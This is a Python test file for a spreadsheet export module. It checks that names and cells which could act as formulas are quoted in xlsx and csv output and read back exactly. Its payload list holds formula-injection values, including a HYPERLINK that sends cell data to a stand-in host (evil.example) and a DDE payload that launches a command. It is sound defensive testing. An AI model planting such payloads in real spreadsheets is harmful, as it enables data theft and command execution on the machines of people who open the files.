"""Formula-safe cells (reports/spreadsheet.py, issue 17 finding 1): the rule on both sides of its
boundary, the exact round trip of write and read-back, and the writers' output read back with
openpyxl (xlsx) and the csv module (csv) — no cell is ever a formula."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from reports.ledger.sheet import FIRST_DATA_ROW, write_ledger_sheet
from reports.model import LedgerTable
from reports.spreadsheet import formula_like, safe_text, unquote, write_csv

# What a hostile name, branch or imported cell can hold (the outside test's and OWASP's list).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " =1+1",  # a program that trims spaces would see a formula
    "　=1+1",  # full-width space
    "'=1+1",  # already quoted once: quoted again, so reading back gives exactly this
    "-王",  # a legitimate name that begins with "-"
    "=",
    "-",
]
INERT = ["王小明", "'王", "a=b", "1-2", "#N/A", "", "'", "  王", "2015-03-01、2015-09-01"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_gets_one_leading_quote(text):
    assert formula_like(text)
    assert safe_text(text) == "'" + text
    assert unquote(safe_text(text)) == text


@pytest.mark.parametrize("text", INERT)
def test_other_text_is_left_alone(text):
    assert not formula_like(text)
    assert safe_text(text) == text and unquote(text) == text


def test_read_back_drops_only_the_quote_the_export_added():
    assert unquote("'=1+1") == "=1+1" and unquote("''=1+1") == "'=1+1"
    assert unquote("'王") == "'王" and unquote("'1-2") == "'1-2"  # a quote before plain text stays


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n ＝＋－＠　a王1#"), max_size=6) | st.text(max_size=20))
def test_write_then_read_is_exact_and_never_formula_like(text):
    written = safe_text(text)
    assert unquote(written) == text
    assert not written[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _ledger(values: list) -> LedgerTable:
    headers = ("序号", "姓名", "出生日期", "备注")
    rows = tuple((i + 1, v, date(1990, 5, 1), v) for i, v in enumerate(values))
    return LedgerTable(headers, rows, title="=HYPERLINK(\"http://evil.example\")乡党委发展党员工作台账")


def test_the_ledger_sheet_writes_every_payload_as_quoted_text(tmp_path):
    wb = Workbook()
    write_ledger_sheet(wb.active, _ledger([*PAYLOADS, *INERT, -5, 3.5]))
    wb.save(tmp_path / "l.xlsx")
    ws = load_workbook(tmp_path / "l.xlsx").active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert ws.cell(1, 1).value.startswith("'=HYPERLINK") and ws.cell(1, 1).data_type == "s"
    for i, text in enumerate([*PAYLOADS, *INERT]):
        cell = ws.cell(FIRST_DATA_ROW + i, 2)
        if text == "":
            assert cell.value is None
            continue
        assert cell.data_type == "s" and cell.value == safe_text(text)
    n = FIRST_DATA_ROW + len(PAYLOADS) + len(INERT)
    assert (ws.cell(n, 2).value, ws.cell(n, 2).data_type) == (-5, "n")  # a negative number stays a number
    assert (ws.cell(n + 1, 2).value, ws.cell(n + 1, 2).data_type) == (3.5, "n")
    assert ws.cell(FIRST_DATA_ROW + INERT.index("#N/A") + len(PAYLOADS), 2).data_type == "s"  # not an error value


def test_the_raw_sheet_xml_holds_no_formula(tmp_path):
    import zipfile

    wb = Workbook()
    write_ledger_sheet(wb.active, _ledger(PAYLOADS))
    wb.save(tmp_path / "l.xlsx")
    with zipfile.ZipFile(tmp_path / "l.xlsx") as z:
        xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml and b't="e"' not in xml


def test_csv_rows_read_back_as_quoted_text():
    out = io.StringIO(newline="")
    write_csv(out, [["姓名", "数"], *[[p, -5] for p in PAYLOADS], ["王小明", None]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == ["姓名", "数"]
    assert [r[0] for r in rows[1:-1]] == ["'" + p for p in PAYLOADS]
    assert all(r[1] == "-5" for r in rows[1:-1])  # numbers are not text: written as they are
    assert rows[-1] == ["王小明", ""]
    assert [unquote(r[0]) for r in rows[1:-1]] == PAYLOADS
